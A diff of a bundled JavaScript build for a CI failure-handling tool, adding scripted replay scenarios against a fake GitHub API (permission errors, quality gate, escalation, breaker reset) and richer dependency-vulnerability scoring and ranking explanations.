+                logName: 'jest-assertion.log',
+                workspace: workspace({}),
+                lintEvent: b.event,
+            };
+        },
+        steps: [
+            classifyStep('classify-a'),
+            { action: 'notify', label: 'notify-a', inputs: (o) => (o['classify-a']?.path === 'failure' ? { verdict: o['classify-a'].result ?? '' } : undefined) },
+            {
+                action: 'notify',
+                label: 'notify-b',
+                inputs: () => ({}),
+                trigger: (s) => ({ eventName: 'workflow_run', event: s.lintEvent }),
+            },
+        ],
+        expect(fake, _outputs, seeded) {
+            const statuses = fake.state.statuses().filter((s) => s.sha === seeded.headSha);
+            const latest = (context) => statuses.filter((s) => s.context === context).at(-1)?.state;
+            const unmet = [];
+            if (latest('closed-loop / CI') !== 'failure')
+                unmet.push(`closed-loop / CI is ${latest('closed-loop / CI') ?? 'missing'}, expected failure`);
+            if (latest('closed-loop / Lint') !== 'success')
+                unmet.push(`closed-loop / Lint is ${latest('closed-loop / Lint') ?? 'missing'}, expected success`);
+            return unmet;
+        },
+    },
+    {
+        id: 'missing-permission',
+        title: 'notify without issues: write: one line naming the permission, exit 1',
+        seed(fake) {
+            const text = "Run npx tsc --noEmit\nsrc/permission.ts(3,7): error TS2322: Type 'string' is not assignable to type 'number'.\nFound 1 error in src/permission.ts:3\n##[error]Process completed with exit code 2.\n";
+            const headSha = fake.state.addCommit({ branch: 'main', message: 'Break the permission test', files: { 'src/permission.ts': 'export const p = 1;\n' } });
+            const { run, event } = seedRun(fake, { branch: 'main', headSha, log: { name: 'trust-permission.log', text }, conclusion: 'failure', agoMinutes: 1 });
+            issuesBeforePermissionStory = fake.state.issues().length;
+            // The job's token was granted no issues: write; GitHub answers the issue creation with 403.
+            fake.addFault({ method: 'POST', pathPattern: /\/repos\/[^/]+\/[^/]+\/issues$/, status: 403, permissionDenied: true, times: 1 });
+            return { event, runId: run.id, headSha, branch: 'main', logName: 'trust-permission.log', workspace: workspace({}) };
+        },
+        steps: [
+            classifyStep('classify'),
+            { action: 'notify', label: 'notify', expectExit: 1, inputs: (o) => (o.classify?.path === 'failure' ? { verdict: o.classify.result ?? '' } : undefined) },
+        ],
+        expect(fake) {
+            const now = fake.state.issues().length;
+            return now !== issuesBeforePermissionStory ? [`${now - issuesBeforePermissionStory} issue(s) created despite the 403`] : [];
+        },
+    },
+];
+
+;// CONCATENATED MODULE: ./packages/cli/src/replay/quality-gate-stories.ts
+
+
+
+
+
+const BRANCH = 'quality-gate-tokenizer';
+const ARTIFACT = 'quality-gate-bench';
+const AUTHOR = { GIT_AUTHOR_NAME: 'demo', GIT_AUTHOR_EMAIL: 'demo@example.invalid', GIT_COMMITTER_NAME: 'demo', GIT_COMMITTER_EMAIL: 'demo@example.invalid' };
+/** Ten timings around `centre` with ±5 % spread (a fixed pattern: the story must replay identically). */
+function timings(centre) {
+    return [-0.05, 0.03, -0.02, 0.04, 0.0, -0.04, 0.05, -0.01, 0.02, -0.03].map((d) => Math.round(centre * (1 + d) * 1000) / 1000);
+}
+const results = (parse, render) => `${JSON.stringify({
+    benchmarks: [
+        { name: 'tokenize 1 MB', unit: 'ms', samples: timings(parse) },
+        { name: 'render page', unit: 'ms', samples: timings(render) },
+    ],
+}, null, 2)}\n`;
+const BASE_SOURCE = 'export function tokenize(text) {\n  return text.split(/\\s+/);\n}\n';
+// The change adds a fast path (lines 4-11) whose branches the tests never reach.
+const HEAD_SOURCE = `${BASE_SOURCE}
+export function tokenizeStream(chunks) {
+  const out = [];
+  for (const chunk of chunks) {
+    if (chunk.length === 0) continue;
+    out.push(...tokenize(chunk));
+  }
+  return out;
+}
+`;
+// lcov the tests wrote, with the runner's absolute paths: tokenize ran, tokenizeStream's body did not.
+const LCOV = [
+    'TN:',
+    'SF:/home/runner/work/widgets/widgets/src/tokenize.js',
+    'DA:2,12',
+    'DA:6,1',
+    'DA:7,1',
+    'DA:8,0',
+    'DA:9,0',
+    'DA:11,0',
+    'LF:6',
+    'LH:3',
+    'end_of_record',
+    '',
+].join('\n');
+/** A repository whose main has the config and tokenizer, and a PR branch that adds the stream path and is slower. */
+function repository() {
+    const dir = (0,external_node_fs_.mkdtempSync)((0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.tmpdir)(), 'closed-loop-replay-gate-'));
+    const git = (...args) => (0,external_node_child_process_namespaceObject.execFileSync)('git', args, { cwd: dir, encoding: 'utf8', env: { ...process.env, ...AUTHOR } }).trim();
+    const write = (path, text) => {
+        (0,external_node_fs_.mkdirSync)((0,external_node_path_namespaceObject.join)(dir, path, '..'), { recursive: true });
+        (0,external_node_fs_.writeFileSync)((0,external_node_path_namespaceObject.join)(dir, path), text);
+    };
+    git('init', '-q', '-b', 'main');
+    write('.github/closed-loop.yml', 'version: 1\nquality_gate:\n  coverage:\n    min_patch: 80\n  bench:\n    tolerance: 5\n');
+    write('src/tokenize.js', BASE_SOURCE);
+    git('add', '-A');
+    git('commit', '-q', '-m', 'feat(tokenizer): split on whitespace');
+    const base = git('rev-parse', 'HEAD');
+    git('checkout', '-q', '-b', BRANCH);
+    write('src/tokenize.js', HEAD_SOURCE);
+    git('add', '-A');
+    git('commit', '-q', '-m', 'feat(tokenizer): stream chunks');
+    const head = git('rev-parse', 'HEAD');
+    // What the PR's test and bench steps wrote (not committed, like CI output).
+    write('coverage/lcov.info', LCOV);
+    write('bench/results.json', results(120, 50.5));
+    return { dir, base, head };
+}
+/** The quality gate's own story: one required check that sees both a coverage drop and a slowdown. */
+const QUALITY_GATE_STORIES = [
+    {
+        id: 'quality-gate',
+        title: 'Quality gate: a PR drops patch coverage and slows a benchmark by 20 % beyond noise — the check fails, the comment shows both',
+        seed(fake) {
+            const { dir, base, head } = repository();
+            // The default branch's last successful run uploaded its benchmark results as an artifact.
+            const mainRun = fake.state.addRun({
+                workflow: 'Quality gate',
+                head_branch: 'main',
+                event: 'push',
+                conclusion: 'success',
+                jobs: [{ name: 'gate', conclusion: 'success' }],
+            });
+            addArtifact(mainRun, ARTIFACT, { 'results.json': results(100, 50) });
+            const { pull } = fake.state.addPull({ head: BRANCH, title: 'feat(tokenizer): stream chunks', user: 'octocat' });
+            const event = pullRequestEvent({ action: 'synchronize', number: pull.number, headSha: head, headRef: BRANCH, repository: `${fake.owner}/${fake.repo}` });
+            const pr = event.pull_request;
+            pr.base.sha = base;
+            pr.base.ref = 'main';
+            pr.title = 'feat(tokenizer): stream chunks';
+            event.repository.default_branch = 'main';
+            return { event, eventName: 'pull_request', runId: mainRun.id, headSha: head, branch: BRANCH, logName: '(none: a pull_request check)', workspace: dir };
+        },
+        steps: [
+            {
+                action: 'quality-gate',
+                label: 'quality-gate',
+                expectExit: 1,
+                inputs: () => ({ 'coverage-report': 'coverage/lcov.info', 'bench-results': 'bench/results.json' }),
+            },
+        ],
+        expect(fake, outputs) {
+            const unmet = [];
+            const out = outputs['quality-gate'] ?? {};
+            if (out.result !== 'failed')
+                unmet.push(`result is ${out.result ?? 'unset'}, expected failed`);
+            if (out.regressed !== 'tokenize 1 MB')
+                unmet.push(`regressed is "${out.regressed ?? ''}", expected "tokenize 1 MB"`);
+            if (!(Number(out.patch) < 80))
+                unmet.push(`patch coverage ${out.patch ?? 'unset'} is not below 80`);
+            if (out['invalid-commits'] !== '0')
+                unmet.push(`invalid-commits is ${out['invalid-commits'] ?? 'unset'}, expected 0`);
+            const pull = [...fake.state.repoOf().pulls.values()].find((p) => p.head.ref === BRANCH);
+            const comments = [...fake.state.repoOf().comments.values()].filter((c) => c.issueNumber === pull?.number && c.body.includes('closed-loop:quality-gate'));
+            if (comments.length !== 1)
+                unmet.push(`${comments.length} quality-gate comments on the PR, expected exactly 1`);
+            const body = comments[0]?.body ?? '';
+            if (!/patch coverage [\d.]+% is below 80%/.test(body))
+                unmet.push('the comment does not show the patch coverage failure');
+            if (!/`tokenize 1 MB` \| .* \| ×1\.\d+ \| .* \| ❌ regressed/.test(body))
+                unmet.push('the comment does not show the regressed benchmark');
+            if (!body.includes('render page'))
+                unmet.push('the comment does not list the unchanged benchmark');
+            return unmet;
+        },
+    },
+];
+
+;// CONCATENATED MODULE: ./packages/cli/src/replay/operations-stories.ts
+
+
+// The loop in operation: escalation by the scheduled sweep, failure-rate tiers and manual runs. Each story
+// has its own workflow and job names, so its failure signatures and histories never meet another story's.
+const operations_stories_MINUTE = 60_000;
+/** One completed run of `workflow`, finished `agoMinutes` ago, on its own commit; returns it with its workflow_run event. */
+function operations_stories_seedWorkflowRun(fake, s) {
+    const headSha = fake.state.addCommit({
+        branch: s.branch,
+        message: `${s.workflow} change ${s.agoMinutes}`,
+        files: { [`ops/${s.job}.txt`]: `${s.agoMinutes}\n` },
+    });
+    const clock = fake.state.now;
+    fake.state.now = () => new Date(Date.now() - s.agoMinutes * operations_stories_MINUTE);
+    try {
+        fake.state.addWorkflow({ name: s.workflow, path: s.path });
+        const run = fake.state.addRun({
+            workflow: s.workflow,
+            head_branch: s.branch,
+            head_sha: headSha,
+            event: 'push',
+            conclusion: s.conclusion,
+            jobs: [{ name: s.job, conclusion: s.conclusion, steps: [{ name: 'Run the suite', conclusion: s.conclusion }], log: s.log.text }],
+        });
+        const event = workflowRunEvent({
+            repository: `${fake.owner}/${fake.repo}`,
+            runId: run.id,
+            headSha,
+            headBranch: s.branch,
+            conclusion: s.conclusion,
+            workflowName: s.workflow,
+            event: 'push',
+        });
+        event.workflow_run.path = s.path;
+        return { run, event, headSha };
+    }
+    finally {
+        fake.state.now = clock;
+    }
+}
+function seeded(last, branch, logName, files = {}) {
+    return { event: last.event, runId: last.run.id, headSha: last.headSha, branch, logName, workspace: workspace(files) };
+}
+const classifyOf = (path) => ({ action: 'failure-classify', label: 'classify', inputs: () => ({ workflows: path }) });
+const notifyVerdict = {
+    action: 'notify',
+    label: 'notify',
+    inputs: (o) => (o.classify?.path === 'failure' ? { verdict: o.classify.result ?? '' } : undefined),
+};
+/** A verdict output, parsed for the expectations. */
+function verdictOf(json) {
+    return JSON.parse(json ?? '{}');
+}
+// ── escalation ────────────────────────────────────────────────────────────────────────────────────────
+// The runner's clock is fixed through CLOSED_LOOP_FIXED_NOW (honoured against the loopback fake only):
+// notify writes the ledger at T, the sweep runs at T + 16 min, then again. Nothing sleeps.
+const RELEASE = '.github/workflows/release.yml';
+const T = Date.UTC(2026, 2, 2, 9, 0);
+const at = (ms) => ({ CLOSED_LOOP_FIXED_NOW: new Date(ms).toISOString() });
+let writesBeforeSecondSweep = 0;
+const escalation = {
+    id: 'escalation',
+    title: 'Escalation: a critical failure nobody acknowledges is escalated once, 16 minutes on; a second sweep writes nothing',
+    seed(fake) {
+        const log = fixtureLog('jest-assertion.log');
+        let last;
+        for (const ago of [200, 150, 100, 3])
+            last = operations_stories_seedWorkflowRun(fake, {
+                workflow: 'Release',
+                path: RELEASE,
+                job: 'release-tests',
+                branch: 'release-topic',
+                conclusion: 'failure',
+                agoMinutes: ago,
+                log,
+            });
+        const config = 'version: 1\nnotify:\n  escalate_after: 15m\n  escalation:\n    mentions: ["@acme/release-oncall"]\n';
+        return seeded(last, 'release-topic', log.name, { '.github/closed-loop.yml': config });
+    },
+    steps: [
+        classifyOf(RELEASE),
+        { ...notifyVerdict, env: at(T) },
+        { action: 'notify', label: 'sweep (T+5m)', inputs: () => ({ phase: 'sweep' }), env: at(T + 5 * operations_stories_MINUTE) },
+        { action: 'notify', label: 'sweep (T+16m)', inputs: () => ({ phase: 'sweep' }), env: at(T + 16 * operations_stories_MINUTE) },
+        {
+            action: 'notify',
+            label: 'sweep again (T+30m)',
+            inputs: () => ({ phase: 'sweep' }),
+            env: at(T + 30 * operations_stories_MINUTE),
+            trigger: (s, _o, fake) => {
+                writesBeforeSecondSweep = fake.writes.length;
+                return { eventName: 'schedule', event: { schedule: '*/15 * * * *', repository: s.event.repository } };
+            },
+        },
+    ],
+    expect(fake, o) {
+        const unmet = [];
+        if (verdictOf(o.classify?.result).severity !== 'critical')
+            unmet.push(`classify: severity ${verdictOf(o.classify?.result).severity}, expected critical`);
+        const issue = Number(o.notify?.['issue-number']);
+        if (o['sweep (T+5m)']?.escalated !== '')
+            unmet.push(`sweep at T+5m escalated "${o['sweep (T+5m)']?.escalated}", expected nothing (not yet due)`);
+        if (o['sweep (T+16m)']?.escalated !== String(issue))
+            unmet.push(`sweep at T+16m escalated "${o['sweep (T+16m)']?.escalated}", expected issue #${issue}`);
+        if (o['sweep again (T+30m)']?.escalated !== '')
+            unmet.push('the second sweep escalated again');
+        if (fake.writes.length !== writesBeforeSecondSweep)
+            unmet.push(`the second sweep wrote ${fake.writes.length - writesBeforeSecondSweep} time(s), expected 0`);
+        const comments = fake.state.comments(undefined, undefined, issue).filter((c) => c.body.includes('notify-sweep-escalation'));
+        if (comments.length !== 1)
+            unmet.push(`issue #${issue} has ${comments.length} escalation comments, expected 1`);
+        else if (!comments[0]?.body.includes('@acme/release-oncall'))
+            unmet.push('the escalation does not mention the configured team');
+        return unmet;
+    },
+};
+// ── failure-rate-tiers ────────────────────────────────────────────────────────────────────────────────
+// 7 failures in 20 runs over 24 h (35 %) of a lint workflow on a topic branch: the category alone says
+// low, the 30 % tier says high.
+const NIGHTLY = '.github/workflows/nightly-lint.yml';
+const tiers = {
+    id: 'failure-rate-tiers',
+    title: 'Failure-rate tiers: a workflow failing 35 % of its runs over 24 h makes even a lint failure high',
+    seed(fake) {
+        const log = fixtureLog('prettier-check.log');
+        const green = fixtureLog('green.log');
+        let last;
+        // Failures at every third run (never three in a row), newest last; the newest run is a failure.
+        for (let i = 19; i >= 0; i--) {
+            const failed = i % 3 === 0 && i <= 18;
+            last = operations_stories_seedWorkflowRun(fake, {
+                workflow: 'Nightly lint',
+                path: NIGHTLY,
+                job: 'nightly-lint',
+                branch: 'tiers-topic',
+                conclusion: failed ? 'failure' : 'success',
+                agoMinutes: i * 70 + 1,
+                log: failed ? log : green,
+            });
+        }
+        return seeded(last, 'tiers-topic', log.name);
+    },
+    steps: [classifyOf(NIGHTLY)],
+    expect(_fake, o) {
+        const v = verdictOf(o.classify?.result);
+        const unmet = [];
+        if (v.category !== 'quality')
+            unmet.push(`category ${v.category}, expected quality`);
+        if (v.history?.runs !== 20 || Math.round((v.history.failureRate ?? 0) * 100) !== 35)
+            unmet.push(`history ${v.history?.runs} runs at ${v.history?.failureRate}, expected 20 at 0.35`);
+        if (v.severity !== 'high')
+            unmet.push(`severity ${v.severity}, expected high (35 % ≥ the 30 % tier)`);
+        return unmet;
+    },
+};
+// ── manual-dispatch ───────────────────────────────────────────────────────────────────────────────────
+// workflow_dispatch names a run id; the run is read from the API and verified like a workflow_run event.
+// A run of a workflow that is not listed is refused the same way.
+const MANUAL = '.github/workflows/manual-ci.yml';
+const dispatched = { runId: 0, foreignRunId: 0 };
+function dispatchEvent(fake, runId) {
+    return {
+        inputs: { 'run-id': String(runId), 'recovery-mode': 'analysis_only', 'failure-category': '' },
+        ref: 'refs/heads/main',
+        repository: { full_name: `${fake.owner}/${fake.repo}`, name: fake.repo, owner: { login: fake.owner }, default_branch: 'main' },
+        sender: { login: fake.owner, type: 'User' },
+        workflow: '.github/workflows/closed-loop-caller.yml',
+    };
+}
+const manualDispatch = {
+    id: 'manual-dispatch',
+    title: 'Manual run: workflow_dispatch on a failed run id is verified, classified and reported like workflow_run',
+    seed(fake) {
+        const log = fixtureLog('jest-assertion.log');
+        const run = operations_stories_seedWorkflowRun(fake, {
+            workflow: 'Manual CI',
+            path: MANUAL,
+            job: 'manual-tests',
+            branch: 'dispatch-topic',
+            conclusion: 'failure',
+            agoMinutes: 30,
+            log,
+        });
+        const foreign = operations_stories_seedWorkflowRun(fake, {
+            workflow: 'Unlisted',
+            path: '.github/workflows/unlisted.yml',
+            job: 'other',
+            branch: 'dispatch-topic',
+            conclusion: 'failure',
+            agoMinutes: 20,
+            log,
+        });
+        dispatched.runId = run.run.id;
+        dispatched.foreignRunId = foreign.run.id;
+        return { ...seeded(run, 'dispatch-topic', log.name), eventName: 'workflow_dispatch', event: dispatchEvent(fake, run.run.id) };
+    },
+    steps: [
+        { action: 'failure-classify', label: 'classify', inputs: () => ({ workflows: MANUAL, 'run-id': String(dispatched.runId) }) },
+        {
+            ...notifyVerdict,
+            inputs: (o) => (o.classify?.path === 'failure' ? { verdict: o.classify.result ?? '', 'status-context': 'closed-loop/manual' } : undefined),
+        },
+        {
+            action: 'failure-classify',
+            label: 'dispatch on an unlisted workflow',
+            inputs: () => ({ workflows: MANUAL, 'run-id': String(dispatched.foreignRunId) }),
+            trigger: (_s, _o, fake) => ({ eventName: 'workflow_dispatch', event: dispatchEvent(fake, dispatched.foreignRunId) }),
+        },
+    ],
+    expect(fake, o, s) {
+        const unmet = [];
+        const v = verdictOf(o.classify?.result);
+        if (o.classify?.path !== 'failure')
+            unmet.push(`classify path ${o.classify?.path}, expected failure`);
+        if (v.category !== 'testing' || v.run?.id !== dispatched.runId)
+            unmet.push(`verdict ${v.category} for run ${v.run?.id}, expected testing for ${dispatched.runId}`);
+        const status = fake.state.statuses().find((st) => st.sha === s.headSha && st.context === 'closed-loop/manual');
+        if (status?.state !== 'failure')
+            unmet.push(`commit status closed-loop/manual on ${s.headSha.slice(0, 7)} is ${status?.state ?? 'missing'}, expected failure`);
+        if (o['dispatch on an unlisted workflow']?.path !== 'ignore')
+            unmet.push('a dispatch naming a run of an unlisted workflow was not refused');
+        return unmet;
+    },
+};
+// ── breaker-reset ─────────────────────────────────────────────────────────────────────────────────────
+// Six transient failures in a row open the breaker: no re-run. A writer comments `/closed-loop reset` on
+// the failure issue (after a read-only user tried the same); the next transient failure is re-run.
+const DEPLOY = '.github/workflows/deploy-checks.yml';
+const operations_stories_BRANCH = 'breaker-topic';
+let resetRun;
+const rerunStep = (label, after) => ({
+    action: 'recover',
+    label,
+    inputs: (o) => (o[after]?.path === 'failure' ? { phase: 'rerun', verdict: o[after].result ?? '', 'max-wait': '60' } : undefined),
+});
+const breakerReset = {
+    id: 'breaker-reset',
+    title: 'Breaker reset: the breaker is open, a writer says /closed-loop reset, the next transient failure is re-run',
+    seed(fake) {
+        const log = fixtureLog('network-econnreset.log');
+        let last;
+        for (const ago of [25, 20, 15, 10, 6, 3])
+            last = operations_stories_seedWorkflowRun(fake, {
+                workflow: 'Deploy checks',
+                path: DEPLOY,
+                job: 'deploy-checks',
+                branch: operations_stories_BRANCH,
+                conclusion: 'failure',
+                agoMinutes: ago,
+                log,
+            });
+        fake.state.setCollaborator({ username: 'maintainer-mia', role: 'write' });
+        fake.state.setCollaborator({ username: 'drive-by', role: 'read' });
+        // A long cool-down, so only a reset (not the clock) can close this breaker during the story.
+        const config = 'version: 1\nrecover:\n  breaker:\n    cooldown_minutes:\n      infrastructure: 30\n';
+        return seeded(last, operations_stories_BRANCH, log.name, { '.github/closed-loop.yml': config });
+    },
+    steps: [
+        classifyOf(DEPLOY),
+        rerunStep('recover (breaker open)', 'classify'),
+        notifyVerdict,
+        {
+            action: 'failure-classify',
+            label: 'classify after reset',
+            inputs: () => ({ workflows: DEPLOY }),
+            trigger: (_s, o, fake) => {
+                const issueNumber = Number(o.notify?.['issue-number']);
+                const at = (agoMs, f) => {
+                    const clock = fake.state.now;
+                    fake.state.now = () => new Date(Date.now() - agoMs);
+                    try {
+                        f();
+                    }
+                    finally {
+                        fake.state.now = clock;
+                    }
+                };
+                at(90_000, () => fake.state.addComment({ issueNumber, body: 'Looked into it, the proxy is fixed.\n/closed-loop reset', user: 'maintainer-mia' }));
+                at(80_000, () => fake.state.addComment({ issueNumber, body: '/closed-loop reset', user: 'drive-by' }));
+                resetRun = operations_stories_seedWorkflowRun(fake, {
+                    workflow: 'Deploy checks',
+                    path: DEPLOY,
+                    job: 'deploy-checks',
+                    branch: operations_stories_BRANCH,
+                    conclusion: 'failure',
+                    agoMinutes: 1,
+                    log: fixtureLog('network-econnreset.log'),
+                });
+                return { eventName: 'workflow_run', event: resetRun.event };
+            },
+        },
+        rerunStep('recover (after reset)', 'classify after reset'),
+    ],
+    expect(fake, o) {
+        const unmet = [];
+        const before = o['recover (breaker open)'];
+        const after = o['recover (after reset)'];
+        if (before?.action === 'rerun' && before.executed === 'true')
+            unmet.push('the open breaker let a re-run through');
+        if (!/open/.test(before?.outcome ?? ''))
+            unmet.push(`before the reset the breaker was not open: ${before?.outcome}`);
+        if (after?.action !== 'rerun' || after.executed !== 'true')
+            unmet.push(`after the reset: ${after?.action} (executed ${after?.executed}), expected an executed re-run`);
+        const run = resetRun && fake.state.run(resetRun.run.id);
+        if (run && run.attempts.length !== 2)
+            unmet.push(`run ${run.id} has ${run.attempts.length} attempt(s), expected a second one`);
+        return unmet;
+    },
+};
+const OPERATIONS_STORIES = [escalation, tiers, manualDispatch, breakerReset];
+
 ;// CONCATENATED MODULE: ./packages/cli/src/replay/catalog.ts
+
+
+
+
 
 /**
  * Every story `closed-loop replay` knows, in the order `npm run demo` plays them. Each area keeps its
  * stories in a file of its own beside this one and adds them here.
  */
-const STORIES = [...LOOP_STORIES];
+const STORIES = [...LOOP_STORIES, ...MERGE_GUARD_STORIES, ...TRUST_STORIES, ...QUALITY_GATE_STORIES, ...OPERATIONS_STORIES];
 
 ;// CONCATENATED MODULE: ./packages/cli/src/replay/replay.ts
 
@@ -17124,7 +22593,7 @@ async function replayStory(story, fake, ctx, print) {
             unmet = story.expect(fake, outputs, seeded);
     }
     finally {
-        (0,external_node_fs_namespaceObject.rmSync)(seeded.workspace, { recursive: true, force: true });
+        (0,external_node_fs_.rmSync)(seeded.workspace, { recursive: true, force: true });
     }
     for (const u of unmet)
         print(`   ✗ ${u}\n`);
@@ -17240,7 +22709,7 @@ function customStory(event) {
 function repositoryRoot() {
     let dir = (0,external_node_path_namespaceObject.dirname)((0,external_node_url_namespaceObject.fileURLToPath)(import.meta.url));
     for (let i = 0; i < 6; i++) {
-        if ((0,external_node_fs_namespaceObject.existsSync)((0,external_node_path_namespaceObject.join)(dir, 'actions', 'failure-classify', 'action.yml')) && (0,external_node_fs_namespaceObject.existsSync)((0,external_node_path_namespaceObject.join)(dir, 'dist')))
+        if ((0,external_node_fs_.existsSync)((0,external_node_path_namespaceObject.join)(dir, 'actions', 'failure-classify', 'action.yml')) && (0,external_node_fs_.existsSync)((0,external_node_path_namespaceObject.join)(dir, 'dist')))
             return dir;
         dir = (0,external_node_path_namespaceObject.dirname)(dir);
     }
@@ -17364,25 +22833,25 @@ class Git {
     }
     /** Full object id of a revision, or a GitError if it does not name one. */
     async resolve(rev, peel = 'commit') {
-        return this.text(['rev-parse', '--verify', '--quiet', '--end-of-options', `${assertRev(rev)}^{${peel}}`]);
+        return this.text(['rev-parse', '--verify', '--quiet', '--end-of-options', `${git_assertRev(rev)}^{${peel}}`]);
     }
     /** A file's text at a revision, or undefined when it is not there (no textconv, no filters). */
     async readFile(rev, path) {
         if (path.startsWith('-'))
             throw new Error(`not a path: ${path}`);
-        const result = await this.run(['cat-file', 'blob', `${assertRev(rev)}:${path.replace(/^\.?\//, '')}`], { okExitCodes: [128] });
+        const result = await this.run(['cat-file', 'blob', `${git_assertRev(rev)}:${path.replace(/^\.?\//, '')}`], { okExitCodes: [128] });
         return result.exitCode === 0 ? result.stdout.toString('utf8') : undefined;
     }
     async tryResolve(rev, peel = 'commit') {
-        const result = await this.run(['rev-parse', '--verify', '--quiet', '--end-of-options', `${assertRev(rev)}^{${peel}}`], { okExitCodes: [1] });
+        const result = await this.run(['rev-parse', '--verify', '--quiet', '--end-of-options', `${git_assertRev(rev)}^{${peel}}`], { okExitCodes: [1] });
         return result.exitCode === 0 ? result.stdout.toString('utf8').trim() : undefined;
     }
     async mergeBases(a, b) {
-        const result = await this.run(['merge-base', '--all', '--end-of-options', assertRev(a), assertRev(b)], { okExitCodes: [1] });
+        const result = await this.run(['merge-base', '--all', '--end-of-options', git_assertRev(a), git_assertRev(b)], { okExitCodes: [1] });
         return result.stdout.toString('utf8').split('\n').filter(Boolean);
     }
     async isAncestor(ancestor, descendant) {
-        const result = await this.run(['merge-base', '--is-ancestor', '--end-of-options', assertRev(ancestor), assertRev(descendant)], { okExitCodes: [1] });
+        const result = await this.run(['merge-base', '--is-ancestor', '--end-of-options', git_assertRev(ancestor), git_assertRev(descendant)], { okExitCodes: [1] });
         return result.exitCode === 0;
     }
     async objectFormat() {
@@ -17398,7 +22867,7 @@ class Git {
     }
 }
 /** Rejects revisions that git could read as options; everything else is git's to judge. */
-function assertRev(rev) {
+function git_assertRev(rev) {
     if (rev === '' || rev.startsWith('-') || /[\0\n]/.test(rev))
         throw new git_GitError(['rev-parse', rev], null, `not a revision: ${JSON.stringify(rev)}`);
     return rev;
@@ -17486,10 +22955,34 @@ function scoreInputs(i, w) {
         ` + ${w.security} × security ${f(n.security)} [${i.security}]`;
     return { scores, explanation };
 }
+const MODEL_NAMES = {
+    wsjf: 'WSJF (value, urgency and risk for the size of the job)',
+    ice: 'ICE',
+    debt: 'technical debt',
+    security: 'security severity',
+};
+/**
+ * "Why this rank", in words a maintainer can check: where it stands, the harvester's evidence, the
+ * model that carries most of its score, and what separates it from the next item.
+ */
+function whyRanked(item, rank, total, next, w) {
+    const n = normalised(item.inputs);
+    const weight = checkWeights(w);
+    const parts = Object.keys(MODEL_NAMES).map((k) => ({
+        k,
+        value: ((k === 'debt' ? w.technical_debt : w[k]) * n[k]) / weight,
+    }));
+    const lead = parts.sort((a, b) => b.value - a.value)[0];
+    const share = lead && item.scores.composite > 0 ? Math.round((100 * lead.value) / item.scores.composite) : 0;
+    const gap = next ? round1(item.scores.composite - next.scores.composite) : 0;
+    return (`#${rank} of ${total}: ${item.rationale}` +
+        (lead && share > 0 ? `; ${share}% of its score comes from ${MODEL_NAMES[lead.k]}` : '') +
+        (next ? (gap > 0 ? `; ${gap.toFixed(1)} above the next item` : '; tied with the next item, ordered by id') : ''));
+}
 /** Scores, ids and ranks: highest composite first, ties broken by id so the order is stable. */
 function scoreCandidates(candidates, weights) {
     const used = new Set();
-    return candidates
+    const sorted = candidates
         .map((c) => {
         let id = itemId(c.kind, c.path, c.rule, c.text);
         for (let k = 2; used.has(id); k++)
@@ -17499,6 +22992,7 @@ function scoreCandidates(candidates, weights) {
         return { id, ...c, scores, explanation: `${explanation}. Signals: ${c.rationale}.` };
     })
         .sort((a, b) => b.scores.composite - a.scores.composite || (a.id < b.id ? -1 : 1));
+    return sorted.map((item, i) => ({ ...item, why: whyRanked(item, i + 1, sorted.length, sorted[i + 1], weights) }));
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/discover/dependencies.ts
@@ -17545,7 +23039,7 @@ function parseNpmAudit(text, source) {
         }));
         const fixRaw = v.fixAvailable;
         const fix = fixRaw === true ? 'available' : record(fixRaw) ? (record(fixRaw)?.isSemVerMajor ? 'major' : 'available') : 'none';
-        return { name, severity, isDirect: v.isDirect === true, advisories, fix };
+        return { name, severity, isDirect: v.isDirect === true, advisories, fix, sources: ['npm audit'] };
     })
         .sort((a, b) => (a.name < b.name ? -1 : 1));
 }
@@ -17594,25 +23088,42 @@ function dependencyCandidates(vulns, outdated, manifest = 'package.json') {
         const [risk, criticality] = SEVERITY_RISK[v.severity];
         const fix = FIX[v.fix];
         const first = v.advisories[0];
+        const npm = !v.ecosystem || v.ecosystem.toLowerCase() === 'npm';
+        const what = `${v.name}${v.version ? ` ${v.version}` : ''}${npm ? '' : ` (${v.ecosystem})`}`;
+        const reach = v.reachable === undefined ? '' : v.reachable ? '; your code calls the vulnerable function' : '; no call of the vulnerable code found';
+        const direct = v.isDirect === undefined ? '' : v.isDirect ? ', direct dependency' : ', transitive dependency';
         return {
             kind: 'dependency',
             rule: 'vulnerable',
-            path: manifest,
-            text: v.name,
-            title: `Vulnerable dependency ${v.name} (${v.severity})${first ? `: ${first.title}` : ''}`,
-            evidence: { package: v.name, severity: v.severity, advisories: v.advisories.length, direct: v.isDirect, fix: v.fix },
+            path: v.manifest ?? manifest,
+            // npm items keep hanging on the bare name, so their ids survive this change.
+            text: npm ? v.name : `${v.ecosystem}:${v.name}`,
+            title: `Vulnerable dependency ${what}: ${v.severity}${v.fixedIn ? `, fixed in ${v.fixedIn}` : ''}${first ? ` — ${first.title}` : ''}`,
+            evidence: {
+                package: v.name,
+                ...(v.ecosystem ? { ecosystem: v.ecosystem } : {}),
+                ...(v.version ? { version: v.version } : {}),
+                ...(v.fixedIn ? { fixedIn: v.fixedIn } : {}),
+                severity: v.severity,
+                advisories: v.advisories.length,
+                ...(v.advisories.some((a) => a.id) ? { ids: v.advisories.map((a) => a.id ?? a.title).join(' ') } : {}),
+                ...(v.isDirect === undefined ? {} : { direct: v.isDirect }),
+                ...(v.reachable === undefined ? {} : { called: v.reachable }),
+                fix: v.fix,
+                ...(v.sources?.length ? { sources: v.sources.join(', ') } : {}),
+            },
             inputs: {
                 businessValue: 3,
                 timeCriticality: criticality,
-                riskReduction: risk,
+                riskReduction: v.reachable ? Math.min(10, risk + 2) : risk,
                 jobSize: fix.jobSize,
                 impact: risk,
-                confidence: 9,
+                confidence: v.reachable ? 10 : 9,
                 ease: fix.ease,
                 debtMinutes: fix.minutes,
                 security: v.severity,
             },
-            rationale: `${v.severity} severity, ${v.advisories.length} advisor${v.advisories.length === 1 ? 'y' : 'ies'}, ${v.isDirect ? 'direct' : 'transitive'} dependency; ${fix.says}`,
+            rationale: `${v.severity} severity${v.unrated ? ' (the advisory database gives none; moderate assumed)' : ''}, ${v.advisories.length} advisor${v.advisories.length === 1 ? 'y' : 'ies'}${direct}; ${v.fixedIn ? `upgrading to ${v.fixedIn} fixes ${v.advisories.length === 1 ? 'it' : 'all of them'} (${fix.says})` : fix.says}${reach}${v.sources?.length ? `; reported by ${v.sources.join(', ')}` : ''}`,
             ...(first?.url ? { url: first.url } : {}),
         };
     });
